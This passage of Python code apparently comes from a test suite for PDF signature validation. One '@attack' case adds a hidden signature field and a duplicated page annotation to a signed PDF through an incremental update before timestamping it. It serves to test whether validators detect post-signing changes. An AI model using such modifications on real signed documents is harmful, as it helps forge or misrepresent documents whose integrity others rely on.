    return stamped(raw.edit(signed_lt(), change))


@attack
def note_shown_once_more() -> bytes:
    """The page's note list names a note of the signed file twice after a timestamp's field came in."""
    pdf = signed_over(_noted(base()))

    def change(writer: IncrementalPdfFileWriter) -> None:
        append_signature_field(writer, SigFieldSpec("Them", box=(0, 0, 0, 0)))
        page = writer.find_page_for_modification(0)[0].get_object()
        notes = page["/Annots"]
        held = [notes.raw_get(i) for i in range(len(notes))]
        page[pdf_name("/Annots")] = generic.ArrayObject([*held, held[0]])
        writer.update_container(page)

    return _timestamp_in(raw.edit(pdf, change), "Them")
